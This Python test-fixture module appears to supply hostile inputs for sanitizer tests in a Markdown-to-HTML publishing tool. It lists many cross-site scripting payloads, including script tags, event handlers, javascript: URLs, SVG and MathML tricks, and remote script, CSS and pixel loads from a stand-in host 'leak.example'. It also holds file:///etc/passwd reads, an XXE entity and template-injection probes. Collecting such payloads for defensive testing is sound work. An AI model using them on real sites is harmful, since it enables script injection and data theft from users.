"""Hostile texts of our own, so that the harnesses never run on nothing."""

from __future__ import annotations

import json
import os
from dataclasses import dataclass
from pathlib import Path

CORPUS = Path(__file__).parents[2] / "../shared/corpora/hostile"
EVERYTHING = bool(os.environ.get("COPYDESK_TORTURE"))
"""`make torture` sends all through every door; the usual run sends samples."""

MARKUP = (
    "<script>alert(1)</script>",
    "<script src=https://leak.example/a.js></script>",
    "<script type=module>import('https://leak.example/a.js')</script>",
    "<ScRiPt\n>alert(1)</sCrIpT\t>",
    "<script/x>alert(1)</script/y>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "</title></style></textarea><script>alert(1)</script>",
    "\"'><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert`1`>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"',
    "<img src=https://leak.example/pixel.gif width=1 height=1>",
    "<img srcset='https://leak.example/a.png 1x, https://leak.example/b.png 2x'>",
    "<img src=pictures/quay.jpg onload=alert(1)>",
    "<img lowsrc=javascript:alert(1) dynsrc=https://leak.example/x>",
    "<image href=https://leak.example/x.png onerror=alert(1)>",
    "<picture><source srcset=https://leak.example/x.webp><img src=x></picture>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>press</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><image href=https://leak.example/x.png /></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math href=javascript:alert(1)>press</math>",
    "<math><mi xlink:href=javascript:alert(1)>press</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=x&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe src=https://leak.example/></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=alert(1)&gt;'></iframe>",
    "<frameset onload=alert(1)><frame src=https://leak.example/></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<object data=https://leak.example/x.swf></object>",
    "<object type=image/svg+xml data='data:image/svg+xml,<svg onload=alert(1)>'></object>",
    "<embed src=https://leak.example/x>",
    "<applet code=x archive=https://leak.example/x.jar></applet>",
    "<video src=https://leak.example/x.mp4 autoplay onloadstart=alert(1)></video>",
    "<video poster=https://leak.example/x.png></video>",
    "<audio src=https://leak.example/x.ogg onerror=alert(1) autoplay></audio>",
    "<video><source onerror=alert(1)><track src=https://leak.example/x.vtt default></video>",
    "<body onload=alert(1)>",
    "<body background=https://leak.example/x.png>",
    "<html onmouseover=alert(1) manifest=https://leak.example/x>",
    "<table background=https://leak.example/x.png><td background=https://leak.example/y.png>",
    "<link rel=stylesheet href=https://leak.example/x.css>",
    "<link rel=preload as=script href=https://leak.example/x.js>",
    "<link rel=prefetch href=https://leak.example/>",
    "<link rel=dns-prefetch href=//leak.example><link rel=preconnect href=https://leak.example>",
    "<link rel=icon href=https://leak.example/x.ico><link rel=manifest href=//leak.example/m>",
    "<base href=https://leak.example/><img src=x.png>",
    "<meta http-equiv=refresh content='0;url=https://leak.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=set-cookie content='a=b'>",
    "<style>@import 'https://leak.example/x.css';</style>",
    "<style>body{background:url(https://leak.example/x.png)}</style>",
    "<style>@font-face{font-family:x;src:url(//leak.example/x)}*{font-family:x}</style>",
    "<p style='background:url(https://leak.example/x.png)'>x</p>",
    "<p style=\"background-image:image-set('https://leak.example/x.png' 1x)\">x</p>",
    "<div style='position:fixed;inset:0;z-index:9999'>over everything</div>",
    "<form action=https://leak.example/><input name=q autofocus onfocus=alert(1)></form>",
    "<button onclick=alert(1) autofocus>press</button>",
    "<button form=x formaction=javascript:alert(1)>press</button><form id=x>",
    "<input type=image src=https://leak.example/x.png onerror=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "<keygen autofocus onfocus=alert(1)><isindex type=image src=1 onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<dialog open onclose=alert(1)><button popovertarget=x>press</button></dialog>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onclick=alert(1) tabindex=1 contenteditable>press</x>",
    "<p onclick=alert(1) onmouseover=alert(1)>x</p>",
    "<p id=location name=cookie>x</p><form id=document name=body></form>",
    "<a href=javascript:alert(1)>press</a>",
    "<a href=' &#1; javascript:alert(1)'>press</a>",
    "<a href='jav&#x09;ascript:alert(1)'>press</a>",
    "<a href=data:text/html,<script>alert(1)</script>>press</a>",
    "<a href=vbscript:msgbox(1)>press</a>",
    "<a href=file:///etc/passwd>press</a>",
    "<a href=https://ok.example ping=https://leak.example/>press</a>",
    "<a href=https://ok.example target=_blank rel=opener>press</a>",
    "<area href=javascript:alert(1)><map name=x><area href=//leak.example></map>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<template><script>alert(1)</script></template><plaintext>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>--!>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href=javascript:alert(1)?><?php echo 1 ?>",
    "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><p>&a;</p>",
    "{{ ''.__class__.__mro__ }} {% include '/etc/passwd' %} ${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
)

DIALECT = (
    "[press](javascript:alert(1))",
    "[press](JaVaScRiPt&colon;alert(1))",
    "[press](java\nscript:alert(1))",
    "[press](<java script:alert(1)>)",
    "[press](%6aavascript:alert(1))",
    "[press](\x01javascript:alert(1))",
    "[press](\\javascript:alert(1))",
    "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[press](https://ok.example \"x' onmouseover='alert(1)\")",
    '[press](https://ok.example"onmouseover="alert(1))',
    "[press](//leak.example/) [press](\\\\leak.example\\share) [press](/etc/passwd)",
    "[press](file:///etc/passwd) [press](blob:null/x) [press](about:blank)",
    "[press][x]\n\n[x]: javascript:alert(1) 'title'",
    "[press]\n\n[press]: data:text/html,<script>alert(1)</script>",
    "<javascript:alert(1)> <data:text/html,x> <//leak.example>",
    '<https://ok.example/"onclick=alert(1)//>',
    "![](https://leak.example/pixel.gif)",
    "![](//leak.example/pixel.gif) ![](data:image/svg+xml,<svg onload=alert(1)>)",
    "![](pictures/../../../etc/passwd) ![](pictures/x.svg) ![](pictures/%2e%2e/x.jpg)",
    '![x"onerror="alert(1)](pictures/quay.jpg)',
    "![x][y]\n\n[y]: https://leak.example/pixel.gif",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)> [press](javascript:alert(1))",
    '[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: note',
    '[x]{lang="tr" onclick="alert(1)"} [x]{lang=tr" onclick="alert(1)}',
    "{lang=tr onclick=alert(1)} Words in no language.",
    "Table: <script>alert(1)</script>\n\n| <img src=x onerror=alert(1)> |\n|---|\n| a |",
    "| a | b |\n|---|---|\n| [press](javascript:alert(1)) | `<svg onload=alert(1)>` |",
    "## <img src=x onerror=alert(1)> {#x onclick=alert(1)}",
    "> <svg/onload=alert(1)>\n> [press](javascript:alert(1))",
    "- <svg/onload=alert(1)>\n    - <script>alert(1)</script>\n",
    "`<script>alert(1)</script>` and ``</code><script>alert(1)</script>``",
    "```html\n<script>alert(1)</script>\n```\n\n    <script>alert(1)</script>\n",
    "*<img src=x onerror=alert(1)>* **<svg onload=alert(1)>** __<b onclick=alert(1)>__",
    "%% <script>alert(1)</script> %% seen %%%\n<script>alert(1)</script>",
    "[TK <script>alert(1)</script>] seen",
    "\x02klzzwxh:0000\x03 \x02wzxhzdk:0\x03 \x02amp\x03lt;script\x02amp\x03gt;",
    '*[HTML]: x" onmouseover="alert(1)\n\nHTML is here.',
)

OWN = (*MARKUP, *DIALECT)

AROUND = (
    "[press]({})", "[{}](https://ok.example/)", "<{}>", "![{}](pictures/quay.jpg)", "![]({})",
    "*{}*", "`{}`", "## {}", "> {}", "- {}", "1. {}", "[{}]{{lang=tr}}", "{{lang={}}} x",
    "Words.[^1]\n\n[^1]: {}", "Table: {}\n\n| {} | b |\n|---|---|\n| {} | d |",
    "[press][x]\n\n[x]: {}",
)  # fmt: skip
"""Where a text may stand inside a body."""


@dataclass(frozen=True, slots=True)
class Vector:
    """A hostile text and where it comes from."""

    id: str
    payload: str


def own() -> list[Vector]:
    return [Vector(f"own-{number}", payload) for number, payload in enumerate(OWN)]


def corpus(every: int = 1) -> list[Vector]:
    """Read each `every`-th vector of the shared corpus; none where it is absent."""
    file = CORPUS / "vectors.jsonl"
    if not file.exists():
        return []
    lines = file.read_text(encoding="utf-8").splitlines()[:: 1 if EVERYTHING else every]
    found = [json.loads(line) for line in lines]
    return [Vector(f"corpus-{one['id']}", one["payload"]) for one in found]


def within(payload: str) -> str:
    """Put a text into every place of a body where a text may stand."""
    flat = payload.replace("\n", " ")
    return "\n\n".join(frame.format(*[flat] * frame.count("{}")) for frame in AROUND)
